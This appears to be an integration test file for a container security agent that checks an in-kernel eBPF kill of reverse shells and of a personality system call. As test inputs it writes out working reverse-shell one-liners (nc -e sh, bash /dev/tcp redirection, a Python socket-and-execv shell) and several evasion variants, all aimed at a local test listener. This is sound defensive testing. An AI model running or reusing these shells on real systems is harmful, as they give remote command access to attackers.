// The in-kernel kill (bpf/enforce.bpf.c) on real containers. With the default policy and
// `reverse shell` made a kill rule, the kernel decides the rule's exec case: the shell is
// sent SIGKILL at sched_process_exec, before one instruction of it runs, so the listener
// (in a network namespace of the test's own) receives nothing, every time. A listed system
// call is killed at sys_enter: the program does nothing after the call. Protected
// containers and --dry-run are never killed in the kernel.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { missingForContainerTests, TEST_IMAGES, WORKLOAD_IMAGES, uniqueName } from '../helpers/host.js';
import { ALERTS_ONLY_LOG, startAgent, readEvents, type RunningAgent } from '../helpers/agent-process.js';
import { eventsUntil } from './events.js';
import { createCatcher, type Catcher } from './listener.js';
import type { VigilEvent } from '../../src/events/index.js';

const skip = missingForContainerTests();
// What an attacker sends first: a command whose output is unmistakable.
const ATTACKER_COMMANDS = 'echo MARK$((6*7))\n';

function policyDir(extra: string[] = []): string {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-kkill-'));
  writeFileSync(join(dir, 'kill.yaml'), [
    'apiVersion: vigil.dev/v1', 'kind: Policy', 'metadata:', '  name: test-kernel-kill', 'spec:',
    '  rules:',
    '    - name: no personality change',
    '      description: "a container changing its execution domain (personality), killed at the call"',
    '      kinds: [process]',
    "      condition: 'container_code && syscall == \"personality\"'",
    '      severity: high',
    '      action: kill',
    '  overrides:', '    - rule: reverse shell', '      action: kill',
    ...extra, '',
  ].join('\n'));
  return dir;
}

function runContainer(name: string, image: string, script: string): string {
  const r = spawnSync('docker', ['run', '--rm', '--pull', 'never', '--name', name, image, 'sh', '-c', script], { encoding: 'utf8', timeout: 60_000 });
  return (r.stdout ?? '') + (r.stderr ?? '');
}

/** The container's events once its kernel-killed event and that event's response record are in. */
async function killedEvent(agent: RunningAgent, name: string): Promise<{ event: VigilEvent; record: VigilEvent; all: VigilEvent[] }> {
  const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response' && e.args['layer'] === 'kernel'));
  const event = es.find((e) => e.kind !== 'response' && e.response?.layer === 'kernel');
  assert.ok(event, `no kernel-killed event: ${JSON.stringify(es.map((e) => [e.kind, e.syscall, e.process.args, e.verdict.rules, e.response]))}`);
  const record = es.find((e) => e.kind === 'response' && e.args['trigger_seq'] === event.seq);
  assert.ok(record, 'a response record for it');
  return { event, record, all: es };
}

describe('in-kernel kill: a reverse shell dies at its exec and the listener receives nothing', { skip }, () => {
  let agent: RunningAgent;
  let catcher: Catcher;

  before(async () => {
    catcher = await createCatcher(60 + (process.pid % 40), ATTACKER_COMMANDS);
    agent = await startAgent([ALERTS_ONLY_LOG, '--policy', policyDir(), '--no-control-socket']);
  });
  after(async () => {
    // The namespace goes whatever stop() does: a leftover one would take its subnet's traffic.
    try {
      await agent?.stop();
    } finally {
      catcher?.close();
    }
  });

  test('the agent says which kill rules the kernel decides', () => {
    assert.match(agent.stderr(), /kill rule 'reverse shell': the kernel kills \(7 case\(s\); the rest in user space\)/);
    assert.match(agent.stderr(), /kill rule 'no personality change': the kernel kills \(every case\)/);
  });

  test('busybox nc -e sh, 6 runs: killed by the kernel at the exec, nothing reaches the listener', async () => {
    const runs = 6;
    for (let i = 0; i < runs; i++) {
      const name = uniqueName('vigil-kkill');
      const out = runContainer(name, TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e sh; echo "nc exit $?"`);
      assert.match(out, /nc exit 137/, `run ${i}: ${out}`);
      const caught = await catcher.waitFor(i + 1);
      assert.equal(caught.length, i + 1, `run ${i}: the connection was made and closed`);
      assert.equal(caught[i]?.got, '', `run ${i}: the listener received ${JSON.stringify(caught[i]?.got)}`);
      const { event, record, all } = await killedEvent(agent, name);
      assert.equal(event.kind, 'exec');
      assert.deepEqual(event.process.args, ['sh']);
      assert.deepEqual(event.response, { action: 'kill', target: 'process', layer: 'kernel', outcome: 'done', by: 'policy', rule: 'reverse shell' });
      assert.equal(event.verdict.action, 'kill', 'user space agrees: its verdict is the same rule');
      assert.ok(event.verdict.rules.includes('reverse shell'));
      assert.equal(record.args['layer'], 'kernel');
      assert.equal(record.args['rule'], 'reverse shell');
      assert.ok(!all.some((e) => e.kind === 'response' && e.args['layer'] === 'user-space'), 'user space took no action of its own');
    }
  });

  test('bash -i >& /dev/tcp/HOST/PORT 0>&1, 5 runs: the listener never gets a prompt', async () => {
    for (let i = 0; i < 5; i++) {
      const name = uniqueName('vigil-kkill-bash');
      const n = catcher.catches().length;
      const out = runContainer(name, TEST_IMAGES.bash, `bash -c 'bash -i >& /dev/tcp/${catcher.address}/${catcher.port} 0>&1'; echo "bash exit $?"`);
      assert.match(out, /bash exit 137/, out);
      const caught = await catcher.waitFor(n + 1);
      assert.equal(caught[n]?.got, '', `run ${i}: the listener received ${JSON.stringify(caught[n]?.got)}`);
      const { event } = await killedEvent(agent, name);
      assert.equal(event.kind, 'exec');
      assert.equal(event.process.comm, 'bash');
    }
  });

  test('an attacker\'s variants: exec -a, /bin/sh by path, busybox sh by name, a symlink to busybox named sh, python exec\'ing sh', async () => {
    const variants: Array<[string, string, string]> = [
      // argv[0] renamed: comm still names the file executed
      ['exec -a', TEST_IMAGES.bash, `bash -c 'exec -a innocent bash -i >& /dev/tcp/${catcher.address}/${catcher.port} 0>&1'; echo "exit $?"`],
      ['nc -e /bin/sh', TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e /bin/sh; echo "exit $?"`],
      // busybox run by name through nc's applet exec: comm "exe", argv ["busybox", "sh"]
      ['nc -e busybox sh', TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e busybox sh; echo "exit $?"`],
      ['symlink', TEST_IMAGES.busybox, `ln -s /bin/busybox /tmp/sh && nc ${catcher.address} ${catcher.port} -e /tmp/sh; echo "exit $?"`],
      ['python', WORKLOAD_IMAGES.python, `python3 -c 'import socket,os; s=socket.create_connection(("${catcher.address}", ${catcher.port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])'; echo "exit $?"`],
    ];
    for (const [what, image, script] of variants) {
      const name = uniqueName('vigil-kkill-var');
      const n = catcher.catches().length;
      const out = runContainer(name, image, script);
      assert.match(out, /exit 137/, `${what}: ${out}`);
      const caught = await catcher.waitFor(n + 1);
      assert.equal(caught[n]?.got, '', `${what}: the listener received ${JSON.stringify(caught[n]?.got)}`);
      await killedEvent(agent, name);
    }
  });

  test('a listed system call: linux32 dies at its personality call and runs nothing after it', async () => {
    const name = uniqueName('vigil-kkill-sys');
    const out = runContainer(name, TEST_IMAGES.busybox, 'linux32 echo REACHED; echo "linux32 exit $?"');
    assert.match(out, /linux32 exit 137/, out);
    assert.doesNotMatch(out, /REACHED/, 'no instruction after the call ran (its exec of echo)');
    const { event } = await killedEvent(agent, name);
    assert.equal(event.syscall, 'personality');
    assert.equal(event.response?.rule, 'no personality change');
  });

  test('a shell whose streams are not a socket, and a program that is not a shell, are left alone', async () => {
    const name = uniqueName('vigil-kkill-ok');
    const out = runContainer(name, TEST_IMAGES.busybox, `sh -c 'echo fine' </dev/null; python3 -c 1 2>/dev/null; echo done`);
    assert.match(out, /fine/);
    assert.match(out, /done/);
    // The alerts log holds INSECURE events only: none of this container's may ask for an action.
    // A later container's alert is the mark that this one's records are all in.
    const marker = uniqueName('vigil-kkill-mark');
    runContainer(marker, TEST_IMAGES.busybox, 'linux32 true');
    await killedEvent(agent, marker);
    const es = readEvents(agent.logPath).filter((e) => e.container.name === name);
    assert.ok(!es.some((e) => e.response), JSON.stringify(es.filter((e) => e.response)));
  });
});

describe('in-kernel kill: never for a protected container, never in a dry run', { skip }, () => {
  test('a container protected by name runs its reverse shell (the kernel\'s mask is 0 for it, and for any container before it is known)', async (t) => {
    const catcher = await createCatcher(110 + (process.pid % 40), `${ATTACKER_COMMANDS}exit\n`);
    const dir = mkdtempSync(join(tmpdir(), 'vigil-kkill-cfg-'));
    const config = join(dir, 'agent.yaml');
    writeFileSync(config, 'respond:\n  protect:\n    names: ["vigil-kkprot-*"]\n');
    const agent = await startAgent([ALERTS_ONLY_LOG, '--config', config, '--policy', policyDir(), '--no-control-socket']);
    try {
      assert.match(agent.stderr(), /not killed in the kernel until resolved/);
      const name = uniqueName('vigil-kkprot');
      const out = runContainer(name, TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e sh; echo "nc exit $?"`);
      const caught = await catcher.waitFor(1);
      const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
      const shell = es.find((e) => e.kind === 'exec' && e.verdict.rules.includes('reverse shell'));
      // The kernel's mark is in the exec record's header when this agent's program killed it.
      assert.equal(shell?.response?.layer, 'user-space', JSON.stringify(shell?.response));
      assert.equal(shell?.response?.outcome, 'protected', JSON.stringify(shell?.response));
      // Other agents on a shared machine may kill it by their own policies: what happened is printed.
      t.diagnostic(`protected container: ${out.trim()}; the listener received ${JSON.stringify(caught[0]?.got)}`);
    } finally {
      await agent.stop();
      catcher.close();
    }
  });

  test('--dry-run: the in-kernel kill is not loaded, the shell runs and the log says "would"', async (t) => {
    const catcher = await createCatcher(160 + (process.pid % 40), `${ATTACKER_COMMANDS}exit\n`);
    const agent = await startAgent([ALERTS_ONLY_LOG, '--policy', policyDir(), '--no-control-socket', '--dry-run']);
    try {
      assert.match(agent.stderr(), /dry run: the in-kernel kill is not loaded; 2 kill rule\(s\) it could decide are logged as "would kill"/);
      const name = uniqueName('vigil-kkill-dry');
      const out = runContainer(name, TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e sh; echo "nc exit $?"; linux32 echo REACHED`);
      assert.match(out, /REACHED/, out);
      t.diagnostic(`dry run: ${out.trim()}; the listener received ${JSON.stringify((await catcher.waitFor(1))[0]?.got)}`);
      const es = await eventsUntil(agent, name, (x) => x.filter((e) => e.kind === 'response').length >= 2);
      const responses = es.filter((e) => e.kind === 'response');
      assert.ok(responses.length >= 2, JSON.stringify(es.map((e) => [e.kind, e.syscall, e.response])));
      for (const r of responses) {
        assert.equal(r.args['outcome'], 'would');
        assert.equal(r.args['layer'], 'user-space');
      }
      assert.ok(!es.some((e) => e.response?.layer === 'kernel'), 'no record carries the kernel\'s mark');
    } finally {
      await agent.stop();
      catcher.close();
    }
  });
});
